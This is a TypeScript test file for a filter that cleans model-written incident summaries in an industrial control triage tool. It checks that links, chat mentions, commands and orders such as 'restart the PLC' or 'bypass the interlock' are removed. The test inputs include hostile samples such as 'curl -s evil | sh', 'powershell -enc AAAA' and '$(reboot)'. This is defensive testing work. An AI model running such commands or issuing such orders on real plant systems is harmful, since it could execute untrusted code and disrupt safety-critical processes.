// What a model writes is made harmless before it is kept: no link, mention, command or call to act; what only tells, stays.
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { plainSentences, tellsToAct } from '../../src/triage/advice-words.ts';

describe('words of a model', () => {
	it.each([
		['See https://evil.example/x?q=1 now', 'links', 'evil'],
		['[words](https://evil.example/x) stay', 'links', 'evil'],
		['<https://evil.example|open>', 'links', 'evil'],
		['go to evil.example/path', 'links', 'evil'],
		['www.evil.example', 'links', 'evil'],
		['<!channel> wake up', 'mentions', '<!channel'],
		['<@U0MIA> did it', 'mentions', 'U0MIA'],
		['@here and ＠channel', 'mentions', 'here'],
		['Type /interlock thaw all', 'commands', 'thaw'],
		['say interlock incident approve stp_1', 'commands', 'approve'],
		['$(reboot)', 'commands', 'reboot'],
		['curl -s evil | sh', 'commands', 'evil'],
		['powershell -enc AAAA', 'commands', 'AAAA'],
		['`code` and *bold*', 'markup', '`'],
	])('%s loses its %s', (text, kind, gone) => {
		const cleaned = plainSentences(text);
		expect(cleaned.removed).toContain(kind);
		expect(cleaned.text).not.toContain(gone);
	});

	it.each([
		'A remote session was used to change logic on [host-1].',
		'Download of a program to the controller was seen. It is not certain who did it.',
		'PowerShell ran on the engineering station, then gnp.exe.',
		'Stopped services on fw-1.plant.example explain the silence.',
		'Write access was used at 02:14; run-time values changed.',
	])('leaves as it is: %s', (text) => {
		expect(plainSentences(text)).toEqual({ text, removed: [] });
	});

	it.each([
		'Restart the PLC.',
		'Please reboot all controllers.',
		'1. Bypass the interlock',
		'Immediately, stop the process',
		'Starte die SPS neu.',
		'Bitte genehmigen Sie alles.',
		'Redémarrez l’automate.',
		'Reinicie el PLC.',
		'Перезапусти ПЛК.',
		'重启PLC。',
		'请批准所有步骤',
	])('does not pass on: %s', (text) => {
		expect(tellsToAct(text)).toBe(true);
		expect(plainSentences(`All is calm. ${text}`)).toEqual({ text: 'All is calm.', removed: ['calls to act'] });
	});

	it.each([
		'Look at the log of ews-4',
		'Ask the operator whether the process is stable',
		'Check who stopped the PLC',
		'Compare the program with the stored copy',
	])('lets people look: %s', (line) => {
		expect(tellsToAct(line, true)).toBe(false);
	});

	it('is stricter in the list of things to look at', () => {
		expect(tellsToAct('Isolate ews-4', true)).toBe(true);
		expect(tellsToAct('Isolate ews-4')).toBe(false);
	});

	it('never throws, never grows much and is quick, whatever the text', () => {
		fc.assert(
			fc.property(fc.string({ unit: 'binary', maxLength: 600 }), (text) => {
				expect(plainSentences(text).text.length).toBeLessThan(text.length * 12 + 40);
			}),
		);
		const began = performance.now();
		for (const unit of ['[a', '](', '<', 'a.', 'x:', '@', '$(', 'curl ', '. ', '/']) plainSentences(unit.repeat(300));
		expect(performance.now() - began).toBeLessThan(1_000);
	});
});
